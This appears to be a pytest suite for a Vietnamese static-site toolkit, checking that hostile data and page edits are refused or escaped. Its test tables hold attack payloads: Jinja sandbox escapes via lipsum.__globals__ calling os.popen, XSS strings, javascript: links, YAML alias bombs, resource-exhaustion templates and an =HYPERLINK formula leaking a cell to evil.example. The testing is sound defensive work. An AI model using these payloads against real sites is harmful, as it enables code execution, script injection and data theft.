"""Hostile input (issue 12): what a careless or hostile contributor can put in data/ or docs/
never runs, never reaches the published site, and stops `make check` or the build with a
Vietnamese message naming the file and the line.

Table-driven: each case is one change to a fresh copy of the project. Data cases run
`python -m sitekit check` (a second or so); page cases need MkDocs and run the safe build into a
copy of a site built before. Every case asserts the message (file, line, words, a fix), that the
earlier site is byte for byte unchanged, and that nothing ran: payloads that would run code try
to create a canary file, which must not exist afterwards.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import shutil
import subprocess
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from conftest import copy_project, sitekit_command

# The same mutations as the data contract's cases (each returns the new text and its line).
from test_data_contract import _line, append, replace, whole

CANARY = "CANARY-PWNED"  # replaced by the absolute path of a file inside the case's folder
RUN = f"lipsum.__globals__.os.popen('touch {CANARY}').read()"  # what a template attack would run


@dataclass
class Case:
    id: str
    file: str
    mutate: Callable
    phrase: str
    mode: str = "check"  # "check": data only; "build": the safe build (pages need MkDocs)
    line: bool = True  # the message names file:line of the change
    env: tuple = ()


FIG, SRC, PROG, DOC, EVT, SOL = (f"data/{n}.yml" for n in ("figures", "sources", "programmes", "documents",
                                                            "events", "solutions"))
PAGE = "docs/index.md"
MARKUP = "chỉ được ghi chữ thường"
BOMB = "".join(f"{a}: &{a} [{', '.join(['*' + b] * 9) if b else ', '.join(['lol'] * 9)}]\n"
               for a, b in zip("abcdefghi", ["", *"abcdefgh"], strict=False))


def page(block: str, phrase: str, **kw) -> Case:
    return Case(kw.pop("id"), PAGE, append(block), phrase, mode="build", **kw)


CASES = [
    # --- markup and template syntax in every kind of name field (make check) ---
    Case("programme-name-template", PROG, replace("name: Sơ cấp lý luận chính trị", "name: Sơ cấp {{ 7*7 }}"), MARKUP),
    Case("programme-name-script", PROG, replace("name: Sơ cấp lý luận chính trị",
                                                "name: Sơ cấp <script>alert(1)</script>"), MARKUP),
    Case("programme-name-runs-code", PROG, replace("name: Sơ cấp lý luận chính trị", f"name: \"{{{{ {RUN} }}}}\""),
         MARKUP),
    Case("document-title-img-onerror", DOC, replace("title: Luật Cán bộ, công chức\n",
                                                    "title: Luật <img src=x onerror=alert(1)>\n"), MARKUP),
    Case("document-issuer-template", DOC, replace("issuer: Quốc hội\n", "issuer: \"{% if true %}Quốc hội{% endif %}\"\n"),
         MARKUP),
    Case("source-title-entity", SRC, replace("organisation: Ban Tổ chức Huyện ủy Hương Khê",
                                             "organisation: Ban &lt;b&gt; Tổ chức"), MARKUP),
    Case("source-organisation-comment", SRC, replace("organisation: Cổng thông tin điện tử huyện Hương Khê",
                                                     "organisation: \"Cổng {# x #} thông tin\""), MARKUP),
    Case("figure-label-tag", FIG, replace("label: Tổng số cán bộ, công chức cấp xã\n",
                                          "label: Tổng số <b>cán bộ</b>\n"), MARKUP),
    Case("derived-label-template", FIG, replace(
        "label: Tỷ lệ khối Đảng, đoàn thể trong tổng số cán bộ, công chức cấp xã",
        "label: \"Tỷ lệ {{ config }}\""), MARKUP),
    Case("chart-title-svg", FIG, replace("title: Cán bộ, công chức cấp xã theo khối",
                                         "title: Theo khối <svg onload=alert(1)>"), MARKUP),
    Case("group-label-template", FIG, replace("label: Trình độ chuyên môn của cán bộ, công chức cấp xã",
                                              "label: \"Trình độ {{ 1 }}\""), MARKUP),
    Case("weakness-title-closing-tag", SOL, replace("title: Số người qua đào tạo ngày càng nhiều, nhưng chất lượng chưa theo kịp",
                                                    "title: Chất lượng </a><a href=x>"), MARKUP),
    Case("event-title-template", EVT, replace("title: Sáp nhập xã Phương Điền và xã Phương Mỹ (xã cũ) thành xã Điền Mỹ (xã cũ)",
                                                  "title: \"{{ 7*7 }} Sáp nhập xã Phương Điền\""),
         MARKUP),
    Case("event-when-block", EVT, replace("when: đầu năm 2020", "when: \"{% raw %}đầu năm 2020\""), MARKUP),
    Case("programme-label-tag", PROG, replace("ly-luan-chinh-tri: Lý luận chính trị",
                                              "ly-luan-chinh-tri: <i>Lý luận</i> chính trị"), MARKUP),
    Case("document-kind-label-template", DOC, replace("    luat: Luật\n", "    luat: \"{{ 7*7 }}\"\n"), MARKUP),
    # --- ids: reserved names, length, collisions with hand-written pages ---
    Case("programme-id-index", PROG, replace("id: so-cap-ly-luan-chinh-tri", "id: index"), "tên dành riêng"),
    Case("programme-id-con", PROG, replace("id: so-cap-ly-luan-chinh-tri", "id: con"), "tên dành riêng"),
    Case("programme-id-com1", PROG, replace("id: so-cap-ly-luan-chinh-tri", "id: com1"), "tên dành riêng"),
    Case("document-id-nul", DOC, replace("id: luat-cbcc-2008", "id: nul"), "tên dành riêng"),
    Case("figure-id-aux", FIG, replace("id: cb-tong\n", "id: aux\n"), "tên dành riêng"),
    Case("programme-id-319-chars", PROG, replace("id: so-cap-ly-luan-chinh-tri", "id: " + "-".join(["abcdefghijk"] * 26) + "-xyz"),
         "quá 80 ký tự"),
    Case("document-id-hand-written-page", DOC, replace("id: luat-cbcc-2008", "id: huong-dan-cap-xa"),
         "trùng tên trang viết tay"),
    Case("document-id-hand-written-page-2", DOC, replace("id: luat-cbcc-2008", "id: thay-doi-2025"),
         "trùng tên trang viết tay"),
    # --- YAML bombs and numeric extremes ---
    Case("yaml-alias-bomb", EVT, lambda t: (t + BOMB, _line(t + BOMB, len(t) + BOMB.index("*a"))), "bí danh YAML"),
    Case("yaml-single-alias", PROG, replace("solutions: [giai-phap-2, giai-phap-3]\n    documents: [qd-54-tw]",
                                            "solutions: &s [giai-phap-2, giai-phap-3]\n    documents: *s"), "bí danh YAML",
         line=False),
    Case("yaml-merge-key", FIG, replace("  - id: cb-tong\n", "  - <<: {unit: người}\n    id: cb-tong\n"), "khóa gộp"),
    Case("number-nan", FIG, replace("value: 435\n", "value: .nan\n"), "NaN"),
    Case("number-inf", FIG, replace("value: 435\n", "value: .inf\n"), "vô cực"),
    Case("number-minus-inf", FIG, replace("value: 435\n", "value: -.Inf\n"), "vô cực"),
    Case("number-400-digits", FIG, replace("value: 435\n", "value: " + "9" * 400 + "\n"), "Số quá lớn"),
    Case("number-huge-float", FIG, replace("value: 435\n", "value: 1.0e+300\n"), "Số quá lớn"),
    Case("schema-broken-json", "data/schema/events.schema.json", whole("{ \"type\": \n"), "JSON Schema", line=False),
    Case("schema-not-a-schema", "data/schema/events.schema.json", whole("{\"type\": 5}\n"), "JSON Schema", line=False),
    # --- page templates reaching Python internals (sandbox) ---
    page("{{ ''.__class__.__mro__ }}", "không được phép", id="page-str-mro"),
    page(f"{{{{ {RUN} }}}}", "lipsum", id="page-lipsum-globals"),
    page(f"{{{{ kb.__class__.__init__.__globals__['os'].popen('touch {CANARY}') }}}}", "không được phép",
         id="page-kb-globals"),
    page("{{ fig.__globals__ }}", "không được phép", id="page-macro-globals"),
    page("{{ environment }}", "environment", id="page-env-vars"),
    page("{{ config.extra }}", "config", id="page-config"),
    page("{{ range(10**9) | list | length }}", "range", id="page-range"),
    page("{{ kb.figures.clear() }}", "không được phép", id="page-mutate-data"),
    page("{{ 'x' * 100000000 }}", "không được phép", id="page-huge-string"),
    page("{{ 2 ** 100000000 }}", "không được phép", id="page-huge-power"),
    page("{% for a in kb.figures %}{% for b in kb.figures %}{% for c in kb.figures %}{% for d in kb.figures %}"
         "{% for e in kb.figures %}{% for f in kb.figures %}x{% endfor %}{% endfor %}{% endfor %}{% endfor %}"
         "{% endfor %}{% endfor %}", "quá 2 giây", id="page-time-budget", env=(("SITEKIT_PAGE_SECONDS", "2"),)),
    page("{% include '../mkdocs.yml' %}", "include", id="page-include-outside"),
    page("{% include 'khong-co.md' %}", "khong-co.md", id="page-include-missing"),
    page("{{ doc_date('qd-54-tw', 'khong-co') }}", "khong-co", id="page-runtime-macro-error-line"),
    # --- HTML policy: code, frames, and every resource URL that leaves the site ---
    page("<script>alert(1)</script>", "<script>", id="html-script"),
    page('<iframe src="https://evil.example/"></iframe>', "<iframe>", id="html-iframe"),
    page('<object data="https://evil.example/x.swf"></object>', "<object>", id="html-object"),
    page('<embed src="//evil.example/x">', "<embed>", id="html-embed"),
    page('<link rel="stylesheet" href="https://evil.example/x.css">', "<link>", id="html-link"),
    page('<p onclick="alert(1)">x</p>', "onclick", id="html-event-handler"),
    page('<a href="javascript:alert(1)">x</a>', "javascript:", id="html-javascript-link"),
    page('<a href="java&#x09;script:alert(1)">x</a>', "javascript:", id="html-javascript-entity"),
    page('<a href="VBScript:msgbox(1)">x</a>', "vbscript:", id="html-vbscript-link"),
    page("[x](javascript:alert(1))", "javascript:", id="markdown-javascript-link"),
    page('<img src="ok.png" srcset="ok.png 1x, https://evil.example/a.png 2x" alt="">', "srcset", id="html-srcset"),
    page('<video poster="https://evil.example/p.png"></video>', "poster", id="html-poster"),
    page('<svg><image href="https://evil.example/i.png"/></svg>', "<image>", id="html-svg-image"),
    page('<p style="background:url(https://evil.example/b.png)">x</p>', "url()", id="html-css-url"),
    page("<style>@import 'https://evil.example/x.css';</style>", "<style>", id="html-style-import"),
    page('<img src="https:evil.example/x.png" alt="">', "src=", id="html-src-no-slashes"),
    page('<img src="/\\evil.example/x.png" alt="">', "src=", id="html-src-backslash"),
    page("![x](https://evil.example/x.png)", "src=", id="markdown-remote-image"),
    page('<svg><use xlink:href="https://evil.example/s.svg#i"/></svg>', "xlink:href", id="html-svg-xlink"),
    page('<a href="nguon.md" ping="https://evil.example/p">x</a>', "ping", id="html-a-ping"),
    Case("page-title-front-matter", PAGE, replace("title: Trang chủ", "title: \"Trang chủ <script>alert(1)</script>\""),
         MARKUP, mode="build"),
    Case("page-description-template", PAGE, replace("description: Hướng dẫn thực hành",
                                                    "description: Hướng dẫn {{ 7*7 }} thực hành"), MARKUP,
         mode="build"),
]


def tree_hash(folder: Path) -> str:
    h = hashlib.sha256()
    for p in sorted(folder.rglob("*")):
        h.update(str(p.relative_to(folder)).encode() + b"\0")
        if p.is_file():
            h.update(p.read_bytes())
    return h.hexdigest()


@pytest.fixture(scope="module")
def good_site(site) -> tuple[Path, str]:
    return site, tree_hash(site)


def _run(project: Path, *args, env: tuple = ()) -> subprocess.CompletedProcess:
    full = {**os.environ, "NO_MKDOCS_2_WARNING": "1", **dict(env)}
    return subprocess.run(sitekit_command(project, *args), cwd=project, env=full, capture_output=True,
                          text=True, timeout=600)


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_hostile_input_is_refused(case: Case, good_site, tmp_path):
    site_src, good_hash = good_site
    project = copy_project(tmp_path / "project")
    canary = tmp_path / "canary"
    path = project / case.file
    new, line = case.mutate(path.read_text(encoding="utf-8"))
    path.write_text(new.replace(CANARY, str(canary)), encoding="utf-8")
    site = tmp_path / "site"
    shutil.copytree(site_src, site)

    proc = _run(project, "check") if case.mode == "check" else _run(project, "build", "-d", site, env=case.env)
    message = proc.stdout + proc.stderr

    assert proc.returncode != 0, message
    assert "Traceback" not in message, message
    assert case.phrase in message, message
    assert "Cách sửa:" in message, message
    if case.line:
        assert line is not None
        assert f"{case.file}:{line}" in message, f"expected {case.file}:{line} in\n{message}"
    else:
        assert case.file in message, message
    assert not canary.exists(), "the payload ran"
    assert tree_hash(site) == good_hash, "the site built before was changed"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["project", "site"], "leftovers beside the site"


def test_corpus_is_large_enough():
    assert len(CASES) >= 40
    assert len({c.id for c in CASES}) == len(CASES)


# -- what is not refused is shown as text -------------------------------------------------------

LITERAL = "<script>alert(1)</script> {{ 7*7 }} &amp; =HYPERLINK(\"http://x\")"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Luật Cán bộ, công chức")'  # a name, no markup: accepted


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory) -> Path:
    """A site built from data whose free-text fields hold markup, template syntax and a formula."""
    tmp = tmp_path_factory.mktemp("hostile")
    project = copy_project(tmp / "project")
    prog = project / PROG
    text = prog.read_text(encoding="utf-8")
    quoted = LITERAL.replace("\\", "\\\\").replace('"', '\\"')
    anchor = "    summary: >-\n      Trình độ lý luận chính trị đầu tiên"
    assert anchor in text, "the real data changed; update this fixture"
    text = text.replace(anchor, f"    summary: >-\n      {LITERAL} Trình độ lý luận chính trị đầu tiên", 1)
    prog.write_text(text, encoding="utf-8")
    doc = project / DOC
    text = doc.read_text(encoding="utf-8")
    assert "subject: Luật về cán bộ, công chức, trong đó có cán bộ, công chức cấp xã." in text
    assert "title: Luật Cán bộ, công chức\n" in text, "the real data changed; update this fixture"
    text = text.replace("subject: Luật về cán bộ, công chức, trong đó có cán bộ, công chức cấp xã.",
                        f"subject: \"{quoted} Luật về cán bộ, công chức\"", 1)
    text = text.replace("title: Luat Cán bộ, công chức\n".replace("Luat", "Luật"),
                        "title: '" + FORMULA.replace("'", "''") + "'\n", 1)
    doc.write_text(text, encoding="utf-8")
    site = tmp / "site"
    proc = _run(project, "build", "-d", site)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    return site


def test_free_text_is_escaped_everywhere(hostile_site):
    page = (hostile_site / "khoa-hoc" / "so-cap-ly-luan-chinh-tri.html").read_text(encoding="utf-8")
    assert "<script>alert(1)</script>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt; {{ 7*7 }}" in page  # body and meta description
    assert "49" not in page.split("&lt;script&gt;alert(1)&lt;/script&gt;", 1)[1][:20]
    doc = (hostile_site / "van-ban" / "luat-cbcc-2008.html").read_text(encoding="utf-8")
    assert "<script>alert(1)" not in doc and "&lt;script&gt;alert(1)" in doc
    for p in hostile_site.rglob("*.html"):
        assert "<script>alert(1)" not in p.read_text(encoding="utf-8"), p


def test_csv_cells_are_neutralised(hostile_site):
    csv_text = (hostile_site / "du-lieu" / "so-van-ban.csv").read_text(encoding="utf-8-sig")
    json_text = (hostile_site / "du-lieu" / "so-van-ban.json").read_text(encoding="utf-8")
    assert json.dumps(FORMULA, ensure_ascii=False) in json_text  # JSON is not a formula context: as written
    rows = list(csv.reader(io.StringIO(csv_text)))
    # The title, and the law's name made from it ("… số 22/2008/QH12"): each neutralised.
    cells = [c for row in rows for c in row if FORMULA in c]
    assert len(cells) == 2 and all(c.startswith("'" + FORMULA) for c in cells), cells
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_site_is_readable_by_others_and_leftovers_are_removed(tmp_path):
    project = copy_project(tmp_path / "project")
    (tmp_path / "site.building-killed").mkdir()
    (tmp_path / "site.old").mkdir()
    proc = _run(project, "build", "-d", tmp_path / "site")
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["project", "site"]
    for p in [tmp_path / "site", *(tmp_path / "site").rglob("*")]:
        assert (p.stat().st_mode & 0o777) == (0o755 if p.is_dir() else 0o644), p


@pytest.mark.parametrize("target", ["a-file/site", "/proc/kb-site"], ids=["parent-is-a-file", "unwritable-folder"])
def test_file_system_fault_is_a_message(tmp_path, target):
    """A site folder that cannot be made (a file in the way; /proc, which not even root can write)."""
    project = copy_project(tmp_path / "project")
    (tmp_path / "a-file").write_text("x")
    site = Path(target) if target.startswith("/") else tmp_path / target
    proc = _run(project, "build", "-d", site)
    message = proc.stdout + proc.stderr
    assert proc.returncode != 0 and "Traceback" not in message, message
    assert str(site.parent) in message and "Cách sửa:" in message, message


def test_built_pages_run_in_the_sandbox(site):
    """The real site builds with the sandbox in place (a page using anything else would fail)."""
    assert (site / "index.html").exists()


def test_hostile_site_opens_no_dialog_and_requests_nothing_outside(hostile_site, browser):
    """Every page of the site built from hostile free text, in Chromium: no alert/confirm/prompt
    opens, no script error is thrown, and no request leaves 127.0.0.1."""
    from sitekit.localserve import serve

    dialogs, outside, errors = [], [], []
    pages = sorted(p.relative_to(hostile_site).as_posix() for p in hostile_site.rglob("*.html")
                   if "assets" not in p.parts)
    assert len(pages) > 40
    with serve(hostile_site) as base:
        context = browser.new_context()

        def route(r):
            if r.request.url.startswith((base, "data:", "blob:", "about:")):
                r.continue_()
            else:
                outside.append(r.request.url)
                r.abort()

        context.route("**/*", route)
        page = context.new_page()
        page.on("dialog", lambda d: (dialogs.append((page.url, d.message)), d.dismiss()))
        page.on("pageerror", lambda e: errors.append((page.url, str(e))))
        for rel in pages:
            page.goto(base + rel, wait_until="load")
        context.close()
    assert not dialogs, dialogs
    assert not outside, outside
    assert not errors, errors
